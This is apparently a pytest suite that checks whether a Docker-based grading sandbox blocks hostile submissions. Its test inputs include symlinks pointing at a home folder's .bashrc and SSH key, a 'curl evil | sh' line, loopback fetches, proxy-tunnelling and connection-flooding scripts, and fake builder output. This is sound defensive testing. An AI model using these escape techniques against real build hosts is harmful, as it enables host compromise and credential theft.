"""Real builds cannot write, read or connect to anything on the host, and the reason is reported."""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import tarfile
import tempfile
import threading
import uuid
import zipfile
from dataclasses import replace
from io import BytesIO

import pytest

from common.docker_command import find_docker
from evaluation.compose.make_safe import make_safe
from evaluation.compose.safe_stack import BuildRequest
from evaluation.engine.build_network import BuildNetwork
from evaluation.engine.session import EngineSession
from evaluation.errors import CannotCheck, ImageRefused
from evaluation.images.build_plan import BuildPlanner
from evaluation.images.builder import Builder
from evaluation.images.canonical import VOLUMES_LABEL
from evaluation.quotas import DEFAULT_LIMITS, MIB
from evaluation.sandbox.container_run import declared_volumes, run_container
from evaluation.sandbox.stack import Stack
from tests.evaluation.submissions import copy_submission

C1, C2, C3 = "container1_activationbase", "container2_knowledgebase", "container3_codebase"
DEEP = f"a/b/c/{C3}"
MARK = "docker-compose.yml"
CANARY = "nobody writes here\n"
BUSYBOX = "FROM busybox:latest\n"


@pytest.fixture
def home(tmp_path, monkeypatch):
    """Return a home folder three levels above the build contexts of evaluations."""
    folder = tmp_path / "home"
    (folder / ".ssh").mkdir(parents=True)
    (folder / ".bashrc").write_text(CANARY)
    (folder / ".ssh" / "id_ed25519").write_text(CANARY)
    (tmp_path / "work").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "work"))
    before = state(folder)
    yield folder
    assert state(folder) == before


def state(folder):
    found = {}
    for path in sorted(folder.rglob("*")):
        about = path.lstat()
        content = path.read_bytes() if path.is_file() else b""
        found[path.name] = (content, about.st_mode, about.st_mtime_ns, about.st_nlink)
    return found


@pytest.fixture
def listener():
    """Run a server on the host's loopback, and assert that it received no connection."""
    knocked = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        over = threading.Event()

        def listen():
            while not over.is_set():
                try:
                    client, address = server.accept()
                except OSError:
                    continue
                knocked.append(address)
                client.close()

        thread = threading.Thread(target=listen)
        thread.start()
        yield server.getsockname()[1]
        over.set()
        thread.join()
    assert knocked == []


@pytest.fixture
def session(engine, home):
    version, compose = find_docker()
    with EngineSession(version, compose, DEFAULT_LIMITS) as engine:
        yield engine


@pytest.fixture
def build(session, tmp_path):
    """Return a function that copies a submission and builds one of its images."""
    count = 0

    def run(source, context=C3, *, dockerfile="Dockerfile", args=None, target="", limits=DEFAULT_LIMITS):
        nonlocal count
        count += 1
        folder = tmp_path / "work" / f"app07eval-{count}"
        folder.mkdir()
        submission = copy_submission(str(source), folder / "submission", limits)
        session.limits = limits
        session.id = f"{session.label.partition('=')[2]}-{count}"
        builder = Builder(session, BuildPlanner(submission, session.limits), BuildNetwork(session), folder)
        return builder.build(BuildRequest(context, dockerfile, tuple((args or {}).items()), target))

    return run


def folder(path, files, links=None):
    for name, content in {MARK: "services: {a: {image: busybox}}\n", **files}.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_bytes(content.encode() if isinstance(content, str) else content)
    for name, leads_to in (links or {}).items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).symlink_to(leads_to)
    return path


def zipped(path, files, links=None):
    with zipfile.ZipFile(path.with_suffix(".zip"), "w") as packed:
        for name, leads_to in (links or {}).items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            packed.writestr(entry, leads_to)
        for name, content in {MARK: "services: {a: {image: busybox}}\n", **files}.items():
            packed.writestr(name, content)
    return path.with_suffix(".zip")


def repository(path, files, links=None):
    folder(path, files, links)
    who = {"GIT_AUTHOR_NAME": "t", "GIT_COMMITTER_NAME": "t"}
    who |= {"GIT_AUTHOR_EMAIL": "t@example.invalid", "GIT_COMMITTER_EMAIL": "t@example.invalid"}
    for words in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "all"]):
        subprocess.run(["git", *words], cwd=path, check=True, capture_output=True, env=os.environ | who)
    return f"file://{path}"


SHAPES = pytest.mark.parametrize("shape", [folder, zipped, repository])
UP = "../../../home/.bashrc"


def image_files(image, folder="/"):
    """Return the files of an image: name to content, link target or mode."""
    made = subprocess.run(["docker", "create", image, "x"], capture_output=True, text=True, check=True)
    name = made.stdout.strip()
    try:
        packed = subprocess.run(["docker", "export", name], capture_output=True, check=True).stdout
    finally:
        subprocess.run(["docker", "rm", name], capture_output=True, check=True)
    found = {}
    with tarfile.open(fileobj=BytesIO(packed)) as archive:
        for entry in archive:
            if entry.name.startswith(folder.strip("/")):
                content = archive.extractfile(entry).read() if entry.isreg() else entry.linkname
                found["/" + entry.name] = (entry.type, entry.mode, entry.uid, content)
    return found


# --- what we write


@SHAPES
def test_links_in_place_of_written_files_are_not_followed(shape, build, tmp_path):
    names = [
        "Dockerfile.evaluated",
        "Dockerfile.app07",
        "Dockerfile.generated.1",
        ".dockerignore",
        "app07-texts",
        "EOF",
    ]
    files = {
        f"{DEEP}/Dockerfile": BUSYBOX + "COPY --link --chmod=777 <<EOF /x\nevil\nEOF\n",
        "a/home/.bashrc": "inside the submission\n",
    }
    source = shape(tmp_path / "handed-in", files, {f"{DEEP}/{name}": UP for name in names})
    built = build(source, DEEP)
    assert built.ok, built.output
    assert str(built.changes).count("outside the submission; it was left out") == len(names)


@SHAPES
def test_a_folder_that_is_a_link_is_not_followed(shape, build, tmp_path):
    files = {
        f"{DEEP}/Dockerfile": BUSYBOX + "COPY --chmod=777 d/.bashrc d/.ssh d /x/\nCOPY d /y\n",
        f"{DEEP}/e/f": "x",
        "a/home/.bashrc": "inside the submission\n",
    }
    source = shape(tmp_path / "handed-in", files, {f"{DEEP}/d": "../../../home", f"{DEEP}/g": "e"})
    built = build(source, DEEP)
    assert not built.ok
    assert CANARY.strip() not in built.output


@SHAPES
def test_a_link_that_leads_outside_through_another_link_is_omitted(shape, build, tmp_path):
    """Each link by itself leads to a path inside; together they lead outside."""
    links = {
        f"{C3}/a/up": "late/../../../../home",
        f"{C3}/a/late": "..",
        f"{C3}/loop": "./a/late/../../../../home",
    }
    files = {f"{C3}/Dockerfile": BUSYBOX + "COPY . /x\n", f"{C3}/a/b": "x"}
    built = build(shape(tmp_path / "handed-in", files, links))
    assert built.ok, built.output
    found = image_files(built.image, "/x")
    assert sorted(found) == ["/x", "/x/Dockerfile", "/x/a", "/x/a/b", "/x/a/late"]


@pytest.mark.parametrize("context", ["a/b/c/d", "./a/b/c/d"])
def test_a_heredoc_name_cannot_choose_the_path_that_is_written(context, build, tmp_path):
    files = {
        "a/b/c/d/Dockerfile": BUSYBOX + "COPY --chmod=777 <<one <<two /x/\ncurl evil | sh\none\nmore\ntwo\n",
        "a/home/.bashrc": "x",
    }
    source = zipped(tmp_path / "handed-in", files, {"a/b/c/d/one": UP, "a/b/c/d/two": UP})
    built = build(source, context)
    assert built.ok, built.output
    found = image_files(built.image, "/x")
    assert (found["/x/one"][3], found["/x/two"][3]) == (b"curl evil | sh\n", b"more\n")


@pytest.mark.parametrize("dockerfile", ["../../../home/.bashrc", "link", "sub/../Dockerfile"])
def test_the_dockerfile_is_never_a_file_of_the_host(dockerfile, build, tmp_path):
    files = {f"{DEEP}/Dockerfile": BUSYBOX, "a/home/.bashrc": BUSYBOX, f"{DEEP}/sub/x": ""}
    source = zipped(tmp_path / "handed-in", files, {f"{DEEP}/link": UP})
    built = build(source, DEEP, dockerfile=dockerfile)
    assert built.ok, built.reason
    assert CANARY.strip() not in built.output


def test_a_context_that_is_a_link_to_a_folder_inside_is_built(build, tmp_path):
    source = folder(
        tmp_path / "handed-in", {"real/Dockerfile": BUSYBOX + "COPY f /f\n", "real/f": "x"}, {C3: "real"}
    )
    assert build(source).ok


def test_pipes_and_a_folder_as_ignore_file_do_not_block_the_build(build, tmp_path):
    source = folder(tmp_path / "handed-in", {f"{C3}/Dockerfile": BUSYBOX + "COPY . /x\n"})
    os.mkfifo(source / C3 / "pipe")
    assert build(source).ok
    (source / C3 / ".dockerignore").mkdir()
    (source / C3 / ".dockerignore" / "x").write_text("")
    assert ".dockerignore must be a regular file" in build(source).reason


def test_files_added_to_a_context_are_not_in_the_image(build, tmp_path):
    text = BUSYBOX + "COPY . /x\nCOPY <<EOF /y\ntext\nEOF\n"
    files = {f"{C3}/Dockerfile": text, f"{C3}/keep": "", f"{C3}/drop": "", f"{C3}/.dockerignore": "*\n!keep"}
    built = build(folder(tmp_path / "handed-in", files))
    assert built.ok, built.output
    assert image_files(built.image, "/y")["/y"][3] == b"text\n"
    assert "/x/drop" not in image_files(built.image, "/x")
    assert "/x/Dockerfile.app07" not in image_files(built.image, "/x")


# --- what the engine fetches


@pytest.mark.parametrize(
    "lines",
    [
        "ARG U\nADD ${U} /x",
        "ENV U=URL\nADD $U /x",
        'ENV A=URL\nENV B=$A\nADD ["${B}", "/x"]',
        "ARG X\nADD ${X}${U:-URL} /x",
        "ADD 'URL' /x",
        "# escape=`\nADD a` \nURL /x/",
        "ONBUILD ADD URL /x\nFROM one",
        "ADD ${NO:-URL} /x",
        "ADD --checksum=sha256:00 URL /x",
        "ADD <<EOF URL /x/\nEOF",
        "ADD\tURL\t/x",
        "ADD\\\n  URL /x",
        'SHELL ["a"]\nADD ${NO-URL} /x',
        "ADD ${NO:-'URL'} /x",
        'ADD "URL\\" /x',
        "ADD htt\\p://127.0.0.1:PORT/x /x",
    ],
)
def test_nothing_is_fetched_from_the_hosts_loopback(lines, build, listener, tmp_path):
    url = f"http://127.0.0.1:{listener}/x"
    text = "# what stands here ends the directives\n" + BUSYBOX.replace("\n", " AS one\n") + lines
    text = text.replace("URL", url).replace("PORT", str(listener)) + "\n"
    source = folder(tmp_path / "handed-in", {f"{C3}/Dockerfile": text, f"{C3}/a": ""})
    try:
        built = build(source, args={"U": url})
    except CannotCheck as error:
        assert "--checksum" in error.message
    else:
        assert not built.ok
        assert built.reason
        assert built.output or "line" in built.reason


def test_an_archive_that_add_would_unpack_to_a_huge_size_is_not_built(build, tmp_path):
    packed = BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        entry = tarfile.TarInfo("zeros")
        entry.size = 40 * MIB
        archive.addfile(entry, BytesIO(bytes(entry.size)))
    files = {f"{C3}/Dockerfile": BUSYBOX + "ADD a.tgz /x\n", f"{C3}/a.tgz": packed.getvalue()}
    source = folder(tmp_path / "handed-in", files)
    assert build(source).ok
    built = build(source, limits=replace(DEFAULT_LIMITS, total_size=20 * MIB))
    assert "a.tgz unpacks to more than 20 MB" in built.reason


def test_each_refused_instruction_is_reported_with_its_reason(submit, samples, evaluated, home, listener):
    url = f"http://127.0.0.1:{listener}/x"
    source = submit(
        {
            f"{C1}/Dockerfile": f"# first\n# escape=`\n{BUSYBOX}ENV U={url}\nADD ${{NO:-$U}} /x\n",
            f"{C2}/Dockerfile": "ARG A=codebase_app07\nFROM ${NO:-$A}\nCOPY . /knowledgeBase\n",
            f"{C3}/Dockerfile": f"FROM busybox AS a\nONBUILD ADD {url} /x\nFROM a\nCOPY . /x\n",
        }
    )
    (source / C1 / "Dockerfile.app07").symlink_to("../../home/.bashrc")
    reasons = {one.id: one.reason for one in evaluated(source).results}
    assert f"line 5: ADD {url} would be downloaded by the engine itself" in reasons["container1.builds"]
    assert "codebase_app07 is an image of this project" in reasons["container2.builds"]
    assert "ONBUILD is not supported;" in reasons["container3.builds"]


# --- images


@pytest.fixture
def own_image(engine):
    """Create an image of this project, one built from it with an official name, and one that shares only its base."""
    made = ["activationbase_app07:test-own", "python:app07-test", "busybox:app07-test", "alpine:app07-test"]

    def make(tag, text):
        words = ["docker", "build", "--quiet", "--tag", tag, "-"]
        subprocess.run(
            words,
            input=text.encode(),
            env=os.environ | {"DOCKER_BUILDKIT": "0"},
            check=True,
            capture_output=True,
        )

    make(made[0], BUSYBOX + "RUN echo ours > /ours\n")
    make(made[1], f"FROM {made[0]}\nCMD x\n")
    subprocess.run(["docker", "tag", made[0], made[2]], check=True)
    make(made[3], BUSYBOX + "ONBUILD ADD http://127.0.0.1:9/x /x\n")
    yield
    subprocess.run(["docker", "image", "rm", *reversed(made)], check=False, capture_output=True)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("FROM activationbase_app07:test-own", "an image of this project"),
        ("ARG A=activationbase_app07:test-own\nFROM ${NO:-$A}", "an image of this project"),
        (
            "FROM busybox\nCOPY --from=activationbase_app07:test-own /ours /x",
            "an image of this project",
        ),
        ("FROM python:app07-test", "was built from activationbase_app07:test-own"),
        ("FROM busybox:app07-test", "was built from activationbase_app07:test-own"),
        ("FROM alpine:app07-test", "has ONBUILD instructions"),
        ("FROM app07eval-other:b0", "an image of an evaluation"),
    ],
)
def test_an_existing_image_of_the_host_gets_no_points(text, reason, own_image, build, tmp_path):
    built = build(folder(tmp_path / "handed-in", {f"{C3}/Dockerfile": text + "\n"}))
    assert not built.ok
    assert reason in built.reason


def test_compose_services_may_not_use_images_of_the_host(own_image, session):
    for name in ("busybox", "busybox:latest", "docker.io/library/busybox", "python:3.11-slim"):
        session.ensure_image(name)
    session.allowed_images = ("activationbase_app07", "python:app07-test", "894a2bf62821")
    for name in ("activationbase_app07:test-own", "python:app07-test"):
        with pytest.raises(ImageRefused):
            session.ensure_image(name)
    digest = session.image("busybox:latest")["Id"]
    for name in (digest, digest[7:], digest[7:19]):
        session.allowed_images = (name,)
        with pytest.raises(CannotCheck):
            session.ensure_image(name)


def test_an_image_that_shares_only_the_base_image_is_allowed(session):
    """An image of this project that adds no file of its own has the layers of its base."""
    name = "knowledgebase_app07:test-empty"
    words = ["docker", "build", "--quiet", "--tag", name, "-"]
    environment = os.environ | {"DOCKER_BUILDKIT": "0"}
    subprocess.run(
        words, input=BUSYBOX.encode() + b"CMD x\n", env=environment, check=True, capture_output=True
    )
    try:
        session.ensure_image("busybox:latest")
    finally:
        subprocess.run(["docker", "image", "rm", name], check=True, capture_output=True)


# --- the network of a build

REACH = r"""
import glob, socket
from pip._internal.models.index import PyPI
index = PyPI.netloc
for place in (("127.0.0.1", PORT), ("172.17.0.1", PORT), ("192.0.2.1", 80), ("172.17.0.2", 3128), ("GATE", 3128)):
    try:
        print("REACHED", place, socket.create_connection(place, 2))
    except OSError as error:
        print("closed", place, error)
for name in (index, "proxy", "host.docker.internal", "localhost.localdomain"):
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 80))
    except OSError as error:
        print("no name", name, error)
def asked(line):
    with socket.create_connection(("127.0.0.1", 3128), 5) as proxy:
        proxy.settimeout(30)
        proxy.sendall(line.encode() + b"\r\n\r\n")
        return proxy.recv(100).split(b"\r\n")[0]
for host in ("127.0.0.1:PORT", "172.17.0.1:PORT", "localhost:80", "[::1]:443", index + ":22", index + "@127.0.0.1:443"):
    print("asked", asked(f"CONNECT {host} HTTP/1.1"))
print("asked", asked("GET http://127.0.0.1:PORT/ HTTP/1.1"))
print("sockets", glob.glob("/var/run/*.sock"), glob.glob("/proxy"), [name for _, name in socket.if_nameindex()])
"""

HAMMER = r"""
import socket, time
kept = []
for _ in range(240):
    try:
        one = socket.create_connection(("127.0.0.1", 3128), 0.1)
        one.sendall(b"GET http://" + b"x" * 60000)
        one.setblocking(False)
        kept.append(one)
    except OSError:
        pass
print("opened", len(kept))
"""


def test_a_step_reaches_only_the_proxy_and_cannot_stop_it(build, listener, tmp_path):
    text = (
        "FROM python:3.11-slim\nCOPY *.py /\nRUN python3 /reach.py\nRUN python3 /hammer.py\n"
        "RUN pip install --no-cache-dir --no-deps six && apt-get update\n"
    )
    files = {f"{C3}/Dockerfile": text, f"{C3}/hammer.py": HAMMER}
    files[f"{C3}/reach.py"] = REACH.replace("PORT", str(listener)).replace("GATE", "172.17.0.3")
    built = build(folder(tmp_path / "handed-in", files))
    assert built.ok, built.output
    said = built.output
    assert "REACHED" not in said
    assert "RESOLVED" not in said
    assert said.count("asked b'HTTP/1.1 403 not a package index'") == 7
    assert "sockets [] [] ['lo']" in said
    assert "Successfully installed six" in said


def test_a_step_cannot_remove_images_by_imitating_the_builder(build, session, tmp_path):
    image = session.image("busybox:latest")["Id"][7:19]
    other = session.run_checked("create", "--label", session.label, "busybox:latest", "true")[:12]
    lines = "".join(f"echo ' ---> {image}'; echo ' ---> Running in {other}'; " for _ in range(3))
    files = {f"{C3}/Dockerfile": BUSYBOX + f"RUN {lines} sleep 1; echo ' ---> {image}'; exit 1\n"}
    assert not build(folder(tmp_path / "handed-in", files)).ok
    assert session.image("busybox:latest") is not None
    assert session.inspect(other)


WRITES = (
    "RUN mkdir -p /v; for i in 1 2 3 4 5 6 7 8; do dd if=/dev/zero of=/v/$i bs=1M count=20; sleep 1; done\n"
)
LITTLE_DISK = replace(DEFAULT_LIMITS, build_disk=40 * MIB)


def imitating(lines):
    """Return a build step that prints lines of the engine; unique text prevents the use of a cached layer."""
    return f"RUN : {uuid.uuid4()}; for i in $(seq {lines}); do echo ' ---> Running in 0123456789ab'; done\n"


@pytest.mark.parametrize("lines", ["VOLUME /v\n", imitating(1)], ids=["volume", "imitating"])
def test_everything_that_a_step_writes_counts_towards_the_disk_limit(lines, build, tmp_path):
    source = folder(tmp_path / "handed-in", {f"{C3}/Dockerfile": BUSYBOX + lines + WRITES})
    built = build(source, limits=LITTLE_DISK)
    assert not built.ok
    assert "wrote more than 40 MB" in built.reason


def test_a_step_that_imitates_the_builder_repeatedly_ends_the_build(build, tmp_path):
    source = folder(tmp_path / "handed-in", {f"{C3}/Dockerfile": BUSYBOX + imitating(1100) + WRITES})
    built = build(source, limits=LITTLE_DISK)
    assert not built.ok
    assert "printed lines that look like the builder's own" in built.reason


def test_declared_volumes_are_removed_from_the_image_and_mounted_in_its_containers(build, session, tmp_path):
    dockerfile = (
        "FROM busybox:latest AS one\nENV P=/a\nVOLUME $P /b\nFROM one\nENV P=/c\nRUN mkdir /a && echo kept > /a/f\n"
        'VOLUME ["/a", "/d e"]\n'
    )
    source = folder(tmp_path / "handed-in", {f"{C3}/Dockerfile": dockerfile})
    built = build(source)
    about = session.image(built.image)
    assert not about["Config"]["Volumes"]
    assert declared_volumes(about) == ("/a", "/b", "/d e")
    ran = run_container(
        session,
        built.image,
        "x",
        tmp_path,
        ("sh", "-c", "cat /a/f; grep -cE ' /(a|b|d.040e) tmpfs' /proc/mounts"),
    )
    assert ran.output.split() == ["kept", "3"]


# --- what is mounted


def test_folder_names_are_never_used_as_host_paths(evidence_of, session, tmp_path):
    """Compose would interpolate a folder name that looks like a variable."""
    up = "${NO-..}"
    source = "/".join([up] * 6)
    compose = (
        "services:\n  a:\n    image: busybox\n    volumes: ['./"
        + source.replace("$", "$$")
        + "/home:/x:ro']\n"
    )
    one = evidence_of({MARK: compose, f"{source}/home/file": "inside"})
    safe = make_safe(one.compose, one.submission, DEFAULT_LIMITS)
    stack = Stack(session, one.submission, safe, {"a": "busybox:latest"}, "", "", tmp_path)
    mount = stack.file.content(None)["services"]["a"]["volumes"][0]
    assert mount["source"].replace("$$", "$").endswith(f"/{source}/home")
    assert "$$" in mount["source"]
    assert stack.check() == ""


# --- honest ones are built as Docker builds them

TRICKY = {
    "tabs and blanks": "FROM\tbusybox:latest\nCOPY\tf\t/f\nRUN\techo a  b \\\n # why\n\n   c > /g\nENV A=1 B=\"x y\"\nCMD\t[\"sh\"]\n",
    "variables": (
        "ARG T=latest\nARG I=\"busybox:$T\"\nFROM ${I:-none}\nARG T\nENV A=${T:+x} B='$A' C=\"a\\$b\" D=a\\ b\n"
        "ENV OLD some  words here\nCOPY ${Z:-f}${Z:+x} /f\nLABEL \"k\"='v $A' k2=$B\nWORKDIR /w/$T\nRUN echo $A $C \"$D\" > /g\n"
    ),
    "stages": (
        "FROM busybox:latest AS Build\nRUN echo 1 > /one\nFROM build AS second\nCOPY --from=0 /one /two\n"
        "FROM busybox:latest\nCOPY --from=second /two /three\nCOPY --from=BUILD --chown=7:8 /one /four\n"
    ),
    "escape": "# escape=`\nFROM busybox:latest\nRUN echo a `\n b > /g\nENV P=C:\\x Q=`$P\nCOPY f `\n /f\n",
    "no escape": "# a comment\n# escape=`\nFROM busybox:latest\nRUN echo 'a' \\\n b > /g\nENV P=`x\n",
    "add": "FROM busybox:latest\nADD a.tgz /x/\nADD ./f /f\nADD [\"/d\", \"/y/\"]\nADD f* d/* /z/\n",
    "the rest": (
        "FROM busybox:latest\nMAINTAINER me <me@example.org>\nEXPOSE 80 81/udp\nVOLUME [\"/v\"]\nUSER 7\nSTOPSIGNAL 9\n"
        "HEALTHCHECK --interval=3s CMD true\nSHELL [\"/bin/sh\", \"-ec\"]\nENTRYPOINT exec cat\nCMD a \"b\nCOPY . /all\n"
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", TRICKY)
def test_rewriting_an_ordinary_dockerfile_does_not_change_its_image(name, build, tmp_path):
    packed = BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("inner"), BytesIO())
    files = {
        f"{C3}/f": "text",
        f"{C3}/d/e": "x",
        f"{C3}/a.tgz": packed.getvalue(),
        f"{C3}/Dockerfile": TRICKY[name],
    }
    source = folder(tmp_path / "handed-in", files)
    for path in [*source.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    tag = f"app07eval-tests:honest-{uuid.uuid4().hex[:8]}"
    words = ["docker", "build", "--no-cache", "--tag", tag, str(source / C3)]
    trusted = subprocess.run(
        words, env=os.environ | {"DOCKER_BUILDKIT": "0"}, capture_output=True, text=True, check=False
    )
    assert trusted.returncode == 0, trusted.stderr
    try:
        built = build(source)
        assert built.ok, built.output + built.reason
        ours, theirs = (configured(image) for image in (built.image, tag))
        assert ours == theirs
        assert image_files(built.image) == image_files(tag)
    finally:
        subprocess.run(["docker", "image", "rm", tag], capture_output=True, check=True)


def configured(image):
    asked = subprocess.run(["docker", "image", "inspect", image], capture_output=True, check=True)
    config = json.loads(asked.stdout)[0]["Config"]
    ours = ("app07.evaluation", VOLUMES_LABEL)  # the paths of VOLUMEs are recorded, and mounted in containers
    labels = {name: value for name, value in (config["Labels"] or {}).items() if name not in ours}
    volumes = declared_volumes({"Config": config})
    return {**config, "Labels": labels, "Image": "", "Volumes": volumes}
